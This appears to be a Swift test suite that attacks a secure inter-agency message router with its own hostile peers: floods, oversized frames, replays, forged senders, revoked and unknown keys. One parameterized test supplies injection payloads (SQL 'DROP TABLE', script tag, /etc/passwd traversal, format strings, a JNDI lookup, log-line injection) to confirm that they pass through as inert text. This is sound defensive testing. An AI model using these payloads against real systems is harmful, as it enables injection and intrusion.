import Foundation
import HubClient
import HubModel
import HubProtocol
import Operations
import Testing
import ZeroMQ

/// A peer that holds a key and keeps no rule: a bare socket on the submit lane.
final class RawPeer {
  let socket: Socket
  private let context: Context

  init(_ town: Town, as keys: CurveKeyPair, to routerKey: CurvePublicKey) throws {
    context = try Context()
    socket = try Socket(context, .dealer)
    try socket.set(.lingerMilliseconds(0))
    try socket.set(.sendHighWater(100_000))
    try socket.beCurveClient(serverKey: routerKey, keys: keys)
    try socket.connect("tcp://127.0.0.1:\(town.basePort)")
  }

  func send(_ frame: [UInt8]) throws { _ = try socket.send(frame: frame, wait: false) }

  func greet(_ source: String = "raw") throws {
    let source = try #require(Incarnation(source))
    let frame = Submission.hello(
      .init(version: 1, source: source, isConsumer: false, ledger: nil))
    try send(frame.encoded())
  }

  func hello(_ source: String = "raw") throws -> Reply.Welcome {
    try greet(source)
    return try reply { if case .welcome(let welcome) = $0 { welcome } else { nil } }
  }

  /// The next reply that fits; what comes before it is passed over.
  func reply<Value>(within seconds: Int = 20, _ fits: (Reply) -> Value?) throws -> Value {
    try eventually(within: seconds) {
      while let message = try socket.receive(wait: false) {
        if let value = fits(try Reply(decoding: message.frames[0])) { return value }
      }
      return nil
    }
  }

  /// Whether the router still answers this peer.
  func isHeard(within seconds: Int = 3) throws -> Bool {
    let deadline = ContinuousClock.now + .seconds(seconds)
    let echo = UInt64.random(in: 1...UInt64(Int64.max))
    try send(Submission.ping(echo: echo).encoded())
    while ContinuousClock.now < deadline {
      guard try !Poller.poll([socket], timeoutMilliseconds: 100).isEmpty else { continue }
      while let message = try socket.receive(wait: false) {
        if case .pong(let pong) = try Reply(decoding: message.frames[0]), pong.echo == echo {
          return true
        }
      }
    }
    return false
  }

  deinit {
    socket.close()
    context.terminate()
  }
}

@Suite("Hostile peers on real sockets", .serialized, .timeLimit(.minutes(15)))
struct HostilePeerTests {
  private func town(rate: Int = 2_000, burst: Int = 60_000) throws -> Town {
    let town = try Town()
    let file = town.path("router.yaml")
    let text = try String(contentsOfFile: file, encoding: .utf8)
    try (text + "\nsubmit-rate: \(rate)\nsubmit-burst: \(burst)\n")
      .write(toFile: file, atomically: true, encoding: .utf8)
    return town
  }

  /// A seeded stream of bytes.
  private struct Noise {
    var state: UInt64
    mutating func next() -> UInt64 {
      state = state &* 6_364_136_223_846_793_005 &+ 1_442_695_040_888_963_407
      return state >> 11
    }
    mutating func bytes(_ count: Int) -> [UInt8] { (0..<count).map { _ in UInt8(next() & 255) } }
  }

  private func floods(_ agency: TownAgency) throws -> [(name: String, frame: (Int) -> [UInt8])] {
    let booking = try agency.message(
      .bookingCreated, .careCoordination, participant: nil, case: nil,
      segments: [
        Segment(
          .booking,
          fields: [
            Field("booking", .code("b-1")), Field("at", .time(WallTime(milliseconds: 0))),
          ])
      ]).encoded()
    let publish = EncodedPublish.frame(
      sequence: .data, first: 1, messages: .init(repeating: booking, count: 64))
    return [
      ("what was accepted, again and again", { _ in publish }),
      ("numbers far ahead", { number in
        EncodedPublish.frame(
          sequence: .data, first: UInt64(number) + 1_000, messages: [booking])
      }),
      ("random bytes", { number in
        var noise = Noise(state: UInt64(number))
        return noise.bytes(200 + number % 2_000)
      }),
      ("frames cut short", { number in Array(publish.prefix(number % publish.count)) }),
      ("a megabyte of nothing", { _ in [UInt8](repeating: 0, count: 1 << 20) }),
      ("greetings", { number in
        Submission.hello(
          .init(
            version: 1, source: Incarnation("life-\(number % 7)") ?? Incarnation("x")!,
            isConsumer: true, ledger: nil)
        ).encoded()
      }),
      ("resumes", { number in
        Submission.resume(.init(ledger: Incarnation("x")!, next: UInt64(number + 1))).encoded()
      }),
      ("pings that nobody reads the answers of", { number in
        Submission.ping(echo: UInt64(number), chain: 0).encoded()
      }),
    ]
  }

  @Test("Whatever one agency floods the router with, another's message arrives in time")
  func floods() async throws {
    let town = try town(rate: 200, burst: 1_024)
    let router = try town.startRouter()
    let provider = try TownAgency("harbor-behavioral", .behavioralHealth, in: town)
    let prosecutor = try TownAgency("lakewood-prosecutor", .prosecutor, in: town)
    let sheriff = try TownAgency("lakewood-sheriff", .sheriff, in: town)
    let applied = prosecutor.link.events()
    try provider.link.start()
    try prosecutor.link.start()
    try provider.sign(
      "roi-1", participant: "person-1", toward: [prosecutor], [.participation], [.diversion])
    var count: UInt64 = 0
    for flood in try floods(sheriff) {
      let peers = try (0..<4).map { _ in
        try RawPeer(town, as: sheriff.keys.curve, to: sheriff.routerKey)
      }
      // Whether it is answered or not: its agency may be beyond its share.
      try peers[0].greet()
      for number in 0..<(flood.name.contains("megabyte") ? 40 : 2_000) {
        try peers[number % 4].send(flood.frame(number))
      }
      let started = ContinuousClock.now
      _ = try provider.completeIntake("person-1", on: CivilDate(day: 20_000 + Int(count)))
      count += 1
      let through = count
      try await prosecutor.waits(for: applied) { $0 == .applied(through: through) }
      let took = started.duration(to: try #require(prosecutor.applied.last))
      #expect(took < .seconds(15), "behind \(flood.name) it took \(took)")
    }
    try router.expect("an agency sends more than its share")
    #expect(!router.said.contains("b-1"), "a log never says what a message says")
    let totals = try town.totals { _ in true }
    #expect(totals.partsByFate["delivered"] ?? 0 >= 1)
    provider.link.stop()
    prosecutor.link.stop()
    #expect(router.stop() == 0)
  }

  @Test("An agency beyond its share loses nothing: its spool goes on when told")
  func nothingLost() async throws {
    // A share so small that the slowest machine goes beyond it.
    let town = try town(rate: 25, burst: 1_024)
    try town.startRouter()
    let provider = try TownAgency("harbor-behavioral", .behavioralHealth, in: town)
    let prosecutor = try TownAgency("lakewood-prosecutor", .prosecutor, in: town)
    let applied = prosecutor.link.events()
    try provider.link.start()
    try prosecutor.link.start()
    try provider.sign(
      "roi-1", participant: "person-1", toward: [prosecutor], [.participation], [.diversion])
    let messages = try (0..<1_600).map { day in
      try provider.message(
        .intakeCompleted, .diversion, participant: "person-1",
        segments: [
          Segment(
            .participation, fields: [Field("completed-on", .date(CivilDate(day: 20_000 + day)))])
        ])
    }
    try provider.store.write { database in
      for message in messages {
        try provider.store.spool(message, role: provider.role, in: database)
      }
    }
    // What is said of consent passes all of it: it has a share of its own.
    let receipts = provider.link.events()
    try provider.sign(
      "roi-2", participant: "person-2", toward: [prosecutor], [.participation], [.diversion])
    provider.link.wake()
    // Told in the order in which the receipts came, however late this test is to hear it.
    var first: LinkEvent?
    for await event in receipts {
      guard
        event == .receipted(.control, through: 2) || event == .receipted(.data, through: 1_600)
      else { continue }
      first = event
      break
    }
    #expect(first == .receipted(.control, through: 2), "the data still waited")
    try await prosecutor.waits(for: applied) { $0 == .applied(through: 1_600) }
    #expect(try prosecutor.appliedRows().map(\.message) == messages.map(\.id.description))
    #expect(provider.link.state.lastRejection?.code == .rateLimited)
    provider.link.stop()
    prosecutor.link.stop()
  }

  @Test("A frame too large ends its own connection and nobody else's")
  func oversized() throws {
    let town = try town()
    try town.startRouter()
    let sheriff = try TownAgency("lakewood-sheriff", .sheriff, in: town)
    let defender = try TownAgency("lakewood-defender", .publicDefender, in: town)
    let large = try RawPeer(town, as: sheriff.keys.curve, to: sheriff.routerKey)
    let other = try RawPeer(town, as: defender.keys.curve, to: defender.routerKey)
    _ = try large.hello()
    _ = try other.hello()
    for size in [Limits.frameBytes + 1, 3 * Limits.frameBytes] {
      try large.send([UInt8](repeating: 8, count: size))
    }
    #expect(try other.isHeard())
    let again = try RawPeer(town, as: sheriff.keys.curve, to: sheriff.routerKey)
    _ = try again.hello("again")
    #expect(try again.isHeard())
  }

  @Test("Captured frames sent again change nothing, from the same key or another's")
  func replays() throws {
    let town = try town()
    try town.startRouter()
    let provider = try TownAgency("harbor-behavioral", .behavioralHealth, in: town)
    let sheriff = try TownAgency("lakewood-sheriff", .sheriff, in: town)
    let peer = try RawPeer(town, as: provider.keys.curve, to: provider.routerKey)
    _ = try peer.hello()
    let refusal = try provider.message(
      .roiRefused, .careCoordination, participant: "person-1", case: nil,
      consent: .refusal(RoiRefusal(id: #require(RoiID("roi-1")), reason: .refused)))
    let frame = Submission.publish(
      .init(sequence: .control, first: 1, items: [.message(refusal)])
    ).encoded()
    try peer.send(frame)
    let first = try peer.reply { if case .receipt(let receipt) = $0 { receipt } else { nil } }
    #expect(first.through == 1)
    let before = try town.totals { _ in true }
    for _ in 0..<200 { try peer.send(frame) }
    let thief = try RawPeer(town, as: sheriff.keys.curve, to: sheriff.routerKey)
    _ = try thief.hello()
    for _ in 0..<20 { try thief.send(frame) }
    #expect(try peer.isHeard() && thief.isHeard())
    let after = try town.totals { _ in true }
    #expect(after.messages == before.messages)
    #expect(after.auditByKind["accepted"] == before.auditByKind["accepted"])
  }

  @Test("Who a message claims to be from counts for nothing")
  func claimedSource() throws {
    let town = try town()
    try town.startRouter()
    let provider = try TownAgency("harbor-behavioral", .behavioralHealth, in: town)
    let sheriff = try TownAgency("lakewood-sheriff", .sheriff, in: town)
    let message = try provider.message(
      .participantStatus, .careCoordination, participant: "person-1",
      segments: [Segment(.engagement, fields: [Field("status", .code("engaged"))])])
    // A header as it is stored says whose it is; the sheriff sends one that says the provider's.
    let forged = StoredEnvelope.header(of: message)
    let peer = try RawPeer(town, as: sheriff.keys.curve, to: sheriff.routerKey)
    _ = try peer.hello()
    try peer.send(EncodedPublish.frame(sequence: .data, first: 1, messages: [forged]))
    let receipt = try peer.reply { if case .receipt(let receipt) = $0 { receipt } else { nil } }
    #expect(receipt.refused.map(\.number) == [1])
    #expect(try town.totals { _ in true }.auditByKind["accepted"] == nil)
  }

  @Test("A key that is cut off is not heard, though its connection stays open")
  func cutOffSpeaker() throws {
    let town = try town()
    try town.startRouter()
    let sheriff = try TownAgency("lakewood-sheriff", .sheriff, in: town)
    let peer = try RawPeer(town, as: sheriff.keys.curve, to: sheriff.routerKey)
    _ = try peer.hello()
    #expect(try peer.isHeard())
    let key = sheriff.keys.fingerprint.text
    let answer = try town.ask(.cutOff(fingerprint: key, reason: "test"))
    #expect(answer == .done("key \(key) is cut off"))
    #expect(try !peer.isHeard())
    let late = try RawPeer(town, as: sheriff.keys.curve, to: sheriff.routerKey)
    #expect(try !late.isHeard())
  }

  @Test("An unknown key, and one who takes another for the router, never speak")
  func strangers() throws {
    let town = try town()
    try town.startRouter()
    let sheriff = try TownAgency("lakewood-sheriff", .sheriff, in: town)
    let stranger = try RawPeer(town, as: CurveKeyPair.generate(), to: sheriff.routerKey)
    let misled = try RawPeer(
      town, as: sheriff.keys.curve, to: CurveKeyPair.generate().publicKey)
    #expect(try !stranger.isHeard())
    #expect(try !misled.isHeard())
  }

  @Test("Hostile text in a field is carried as text, and is in no log", arguments: [
    "Robert'); DROP TABLE message;--", "<script>alert(1)</script>", "../../../etc/passwd",
    "line\nnotice router: router is up", "\u{1b}[2J\u{202e}gnp.exe", "%s%n%x", "${jndi:ldap://x}",
    "\u{0}null", String(repeating: "💥", count: 1_000),
  ])
  func hostileText(text: String) async throws {
    let town = try town()
    let router = try town.startRouter()
    let sheriff = try TownAgency("lakewood-sheriff", .sheriff, in: town)
    let provider = try TownAgency("harbor-behavioral", .behavioralHealth, in: town)
    let applied = provider.link.events()
    try sheriff.link.start()
    try provider.link.start()
    let alert = try sheriff.message(
      .handoffRequested, .careCoordination, participant: nil,
      segments: [
        Segment(
          .operational,
          fields: [
            Field("requested-at", .time(SystemClock().wall())),
            Field("meeting-place", .text(text)), Field("callback", .code("555-0100")),
          ])
      ])
    try sheriff.store.publish(alert, role: sheriff.role)
    try await provider.waits(for: applied) { $0 == .applied(through: 1) }
    let got = try #require(provider.applied.all.first).message.segments[0].fields[1].value
    #expect(got == .text(text))
    #expect(!router.said.contains(text) && !router.said.contains("DROP TABLE"))
    #expect(router.said.split(separator: "\n").count { $0.contains("router is up") } == 1)
    sheriff.link.stop()
    provider.link.stop()
    #expect(router.stop() == 0)
  }
}
